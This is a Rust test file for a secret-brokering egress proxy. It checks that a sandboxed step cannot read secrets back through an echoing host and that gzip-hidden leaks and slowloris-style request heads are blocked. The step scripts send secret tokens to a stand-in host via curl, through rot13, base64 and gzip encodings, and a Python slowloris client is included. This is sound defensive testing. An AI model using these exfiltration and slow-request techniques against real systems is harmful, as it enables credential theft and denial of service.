//! A brokered secret must not come back to the step through the bound host (issue 10, item 1).
//!
//! echo.test in the fake internet answers with the request it received, the way real APIs echo
//! input in error messages or store it for the step to read back. The step holds a placeholder;
//! the proxy swaps the real value in only where the declaration says (`Authorization` unless it
//! lists other places), and replaces the real value, raw or encoded, by the placeholder in every
//! response from an intercepted host. The step applies a transformation masking cannot see
//! through (rot13) before printing, so a value that came back would show as its rot13.

mod common;

use common::inet::{Internet, audit_events, egress_users, find, needs_root};
use common::*;

const VALUE: &str = "ech0_Rt7kLm29QpXz81VbNc4WdY6hJ";

fn rot13(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
            _ => c,
        })
        .collect()
}

fn run(net: &Internet, dir: &Dir, secrets: &str, script: &str) -> Out {
    run_with(net, dir, secrets, &[], script)
}

/// [`run`] with more secrets in the secrets file than ECHO_TOKEN.
fn run_with(net: &Internet, dir: &Dir, secrets: &str, more: &[(&str, &str)], script: &str) -> Out {
    let profile = format!(
        "name: echo\ndescription: talks to the echo service\nextends: default\nnetwork:\n  allow: [echo.test]\nsecrets:\n{secrets}"
    );
    let more: String = more
        .iter()
        .map(|(k, v)| format!(", \"{k}\": \"{v}\""))
        .collect();
    let file = dir.write(
        "home/secrets.json",
        &format!("{{\"ECHO_TOKEN\": \"{VALUE}\"{more}}}"),
    );
    // Masking off: a value that came back raw must show in the output, not as `***`.
    let extra = ["--secrets-file", file.to_str().unwrap(), "--no-mask"];
    let ca = net.logs.join("ca.pem");
    net.run_env(dir, &profile, &extra, script, &[("SSL_CERT_FILE", &ca)])
}

/// The placeholder the step held (printed first by every script here).
fn placeholder(stdout: &str) -> String {
    let p = stdout
        .lines()
        .find_map(|l| l.strip_prefix("ph="))
        .unwrap_or_else(|| panic!("no placeholder line in {stdout}"))
        .to_string();
    assert_eq!(p.len(), VALUE.len(), "{p}");
    assert_ne!(p, VALUE);
    p
}

fn assert_not_read_back(stdout: &str, uid: u32) {
    for (form, shown) in [(VALUE.to_string(), "raw"), (rot13(VALUE), "rot13")] {
        assert!(
            !stdout.contains(&form),
            "as uid {uid}: the step read back the real value ({shown}):\n{stdout}"
        );
    }
}

/// The attack from the issue: the real value swapped into a header the bound host echoes, read
/// back through rot13; then the same through the declared `Authorization` header, raw, in a
/// response header, base64-encoded, split over 5-byte chunks, and gzip-compressed.
#[test]
fn an_echoed_header_does_not_give_the_step_the_real_value() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    for uid in egress_users() {
        let dir = Dir::new(uid);
        let rot = "tr a-zA-Z n-za-mN-ZA-M";
        let script = format!(
            r#"echo "ph=$ECHO_TOKEN"
curl -s https://echo.test/x -H "X-Echo: $ECHO_TOKEN" | {rot}; echo "--x"
curl -s -D - https://echo.test/auth -H "Authorization: Bearer $ECHO_TOKEN" -H "X-Echo: $ECHO_TOKEN" | {rot}; echo "--auth"
curl -s https://echo.test/b64 -H "Authorization: Bearer $ECHO_TOKEN" | base64 -d | {rot}; echo "--b64"
curl -s https://echo.test/chunked -H "Authorization: Bearer $ECHO_TOKEN" | {rot}; echo "--chunked"
curl -s "https://echo.test/q?token=$ECHO_TOKEN" --data "t=$ECHO_TOKEN" | {rot}; echo "--q"
curl -s -w '\nstatus=%{{http_code}}\n' https://echo.test/gzip -H "Authorization: Bearer $ECHO_TOKEN" | {rot}; echo "--gzip"
curl -s https://echo.test/gzip -H "Authorization: Bearer $ECHO_TOKEN" | gunzip 2>/dev/null | {rot}; echo "--gunzip"
"#
        );
        let out = run(
            &net,
            &dir,
            "  ECHO_TOKEN: { broker: [echo.test] }\n",
            &script,
        );
        let stdout = out.stdout();
        assert_eq!(out.code(), 0, "as uid {uid}: {stdout}\n{}", out.stderr());
        assert_not_read_back(&stdout, uid);
        let ph = placeholder(&stdout);
        // What the step got instead: the placeholder (rot13'd) where the value was echoed.
        let shown = rot13(&ph);
        for section in ["--x", "--auth", "--chunked", "--q"] {
            let before = stdout.split(section).next().unwrap();
            let last = before.rsplit("\n--").next().unwrap();
            assert!(
                last.contains(&shown),
                "as uid {uid}: no placeholder in the answer before {section}:\n{stdout}"
            );
        }
        // `X-Echo` is not a declared place: the host got (and repeats) the placeholder.
        assert!(
            stdout.contains(&format!("k-rpub-onpx: {shown}")),
            "as uid {uid}: {stdout}"
        );
        // The base64 answer decoded inside the step shows the placeholder.
        let b64 = stdout.split("--b64").next().unwrap();
        assert!(b64.contains(&format!("Ornere {shown}")), "{stdout}");
        // A compressed answer cannot be scanned: the step gets a refusal, never the body.
        assert!(stdout.contains("fgnghf=502"), "as uid {uid}: {stdout}");
        // Brokering still works: echo.test received the real value in Authorization ...
        let requests = net.log("requests.log");
        let real = requests
            .lines()
            .filter(|l| l.contains(&format!("auth=Bearer {VALUE}")))
            .count();
        assert!(real >= 4, "as uid {uid}: {requests}");
        // ... and only there: not in X-Echo, the query or the body, which the list form
        // does not name.
        let q = requests
            .lines()
            .rfind(|l| l.contains(" /q?"))
            .unwrap_or_else(|| panic!("{requests}"));
        assert!(
            q.contains(&format!("/q?token={ph} ")) && q.contains(&format!("body='t={ph}'")),
            "as uid {uid}: {q}"
        );
        // The audit log names the secret, never the value.
        let ev = audit_events(&dir);
        let reflected = find(
            &ev,
            "secret_reflected",
            &[("secret_name", "ECHO_TOKEN"), ("dest_name", "echo.test")],
        );
        assert!(!reflected.is_empty(), "as uid {uid}: {ev:#?}");
        // Both compressed answers were withheld, and logged so.
        let withheld = find(
            &ev,
            "http",
            &[
                ("url", "https://echo.test/gzip"),
                ("decision", "deny"),
                ("status", "502"),
            ],
        );
        assert_eq!(withheld.len(), 2, "as uid {uid}: {ev:#?}");
        let log = std::fs::read_to_string(dir.root.join("audit.jsonl")).unwrap();
        assert!(!log.contains(VALUE) && !log.contains(&ph), "{log}");
        assert!(
            out.stderr().contains("secret ECHO_TOKEN"),
            "{}",
            out.stderr()
        );
    }
}

/// A declaration that names the query parameter and the body: the value goes there (and no
/// longer into `Authorization`), and echoes of both come back as the placeholder.
#[test]
fn a_declared_query_or_body_echo_does_not_give_the_step_the_real_value() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    for uid in egress_users() {
        let dir = Dir::new(uid);
        let rot = "tr a-zA-Z n-za-mN-ZA-M";
        let script = format!(
            r#"echo "ph=$ECHO_TOKEN"
curl -s "https://echo.test/q?token=$ECHO_TOKEN&other=$ECHO_TOKEN" -H "Authorization: Bearer $ECHO_TOKEN" --data "t=$ECHO_TOKEN" | {rot}; echo "--q"
curl -s -D - https://echo.test/chunked -H "X-Api-Key: $ECHO_TOKEN" -H "X-Echo: $ECHO_TOKEN" | {rot}; echo "--key"
"#
        );
        let out = run(
            &net,
            &dir,
            "  ECHO_TOKEN:\n    broker: { hosts: [echo.test], in: [\"query:token\", body, \"header:X-Api-Key\", \"header:X-Echo\"] }\n",
            &script,
        );
        let stdout = out.stdout();
        assert_eq!(out.code(), 0, "as uid {uid}: {stdout}\n{}", out.stderr());
        assert_not_read_back(&stdout, uid);
        let ph = placeholder(&stdout);
        assert!(stdout.contains(&rot13(&ph)), "{stdout}");
        let requests = net.log("requests.log");
        let q = requests
            .lines()
            .rfind(|l| l.contains(" /q?"))
            .unwrap_or_else(|| panic!("{requests}"));
        // Swapped in the declared parameter and the body; not in another parameter, and not
        // in Authorization, which this declaration does not list.
        assert!(
            q.contains(&format!("/q?token={VALUE}&other={ph} "))
                && q.contains(&format!("body='t={VALUE}'"))
                && q.contains(&format!("auth=Bearer {ph} ")),
            "as uid {uid}: {q}"
        );
        let key = requests
            .lines()
            .rfind(|l| l.contains(" /chunked "))
            .unwrap_or_else(|| panic!("{requests}"));
        assert!(
            key.contains(&format!("key={VALUE} ")),
            "as uid {uid}: {key}"
        );
        // X-Echo carried the value (declared), and its repetition in a response header came
        // back as the placeholder.
        assert!(
            stdout.contains(&format!("k-rpub-onpx: {}", rot13(&ph))),
            "as uid {uid}: {stdout}"
        );
        let ev = audit_events(&dir);
        for part in ["header", "body"] {
            assert!(
                !find(
                    &ev,
                    "secret_reflected",
                    &[("secret_name", "ECHO_TOKEN"), ("part", part)]
                )
                .is_empty(),
                "as uid {uid}: no {part} event: {ev:#?}"
            );
        }
        assert!(
            out.stderr().contains(
                "a response header from echo.test carried the value of secret ECHO_TOKEN"
            ),
            "{}",
            out.stderr()
        );
    }
}

/// A secret bound elsewhere (here: not brokered at all) must not ride to a bound host inside a
/// compressed request body, which the streaming scan cannot read: the body is read whole and
/// decoded first, as on the plain-HTTP path.
#[test]
fn a_gzip_body_to_a_bound_host_is_scanned_decoded() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    for uid in egress_users() {
        let dir = Dir::new(uid);
        let out = run_with(
            &net,
            &dir,
            "  ECHO_TOKEN: { broker: [echo.test] }\n  OTHER: {}\n",
            &[("OTHER", "0ther_Sec9ret_Zq81LmXx")],
            "printf 'v=%s' \"$OTHER\" | gzip -c > body.gz; \
             echo gzip=$(curl -sk -o /dev/null -w '%{http_code}' -H 'Content-Encoding: gzip' \
               --data-binary @body.gz https://echo.test/gz-leak); \
             echo plain=$(curl -sk -o /dev/null -w '%{http_code}' --data-binary 'v=clean' \
               https://echo.test/gz-clean)",
        );
        assert_eq!(
            out.ok(),
            "gzip=403\nplain=200\n",
            "as uid {uid}: {}",
            out.stderr()
        );
        let requests = net.log("requests.log");
        assert!(!requests.contains("/gz-leak"), "as uid {uid}: {requests}");
        assert!(requests.contains("/gz-clean"), "as uid {uid}: {requests}");
        let ev = audit_events(&dir);
        assert_eq!(
            find(
                &ev,
                "secret_leak",
                &[("secret_name", "OTHER"), ("dest_name", "echo.test")]
            )
            .len(),
            1,
            "as uid {uid}: {ev:#?}"
        );
    }
}

/// The intercepting server has the explicit proxy's header-read timeout too: a request head
/// dribbled one line a second inside an intercepted TLS connection is closed after 30 s
/// (before, it had no limit: the tunnel's deadline covers its ClientHello only). About 31 s;
/// as uid 65534. (echo.test answers one request a connection, so this is the first head; a
/// later one on a kept-alive connection gets the same timer.)
#[test]
fn a_dribbled_head_to_an_intercepted_host_times_out() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    dir.write(
        "ws/slow.py",
        r#"
import os, socket, ssl, time, urllib.parse
u = urllib.parse.urlsplit(os.environ['https_proxy'])
raw = socket.create_connection((u.hostname, u.port))
raw.sendall(b'CONNECT echo.test:443 HTTP/1.1\r\nHost: echo.test:443\r\n\r\n')
got = b''
while b'\r\n\r\n' not in got:
    got += raw.recv(4096)
print('connect', got.split(b'\r\n')[0].decode(), flush=True)
s = ssl.create_default_context().wrap_socket(raw, server_hostname='echo.test')
s.sendall(b'GET /x HTTP/1.1\r\nHost: echo.test\r\n')
s.settimeout(1)
t = time.monotonic()
end = 'still open'
while time.monotonic() - t < 45:
    try:
        s.sendall(b'X-a: b\r\n')
        d = s.recv(4096)
        end = 'ended %r' % d.split(b'\r\n')[0].decode()
        break
    except socket.timeout:
        pass
    except (OSError, ssl.SSLError) as e:
        end = 'cut (%s)' % e
        break
print('SLOWLORIS intercepted head after', int(time.monotonic() - t), end, flush=True)
"#,
    );
    let out = run(
        &net,
        &dir,
        "  ECHO_TOKEN: { broker: [echo.test] }\n",
        "python3 slow.py",
    );
    let stdout = out.ok();
    assert!(
        stdout.contains("connect HTTP/1.1 200"),
        "{stdout}\n{}",
        out.stderr()
    );
    let line = stdout
        .lines()
        .find(|l| l.starts_with("SLOWLORIS"))
        .unwrap_or_else(|| panic!("{stdout}\n{}", out.stderr()));
    eprintln!("{line}");
    let secs: u64 = line.split_whitespace().nth(4).unwrap().parse().unwrap();
    assert!((29..=34).contains(&secs), "{line}");
    assert!(!line.contains("still open"), "{line}");
}
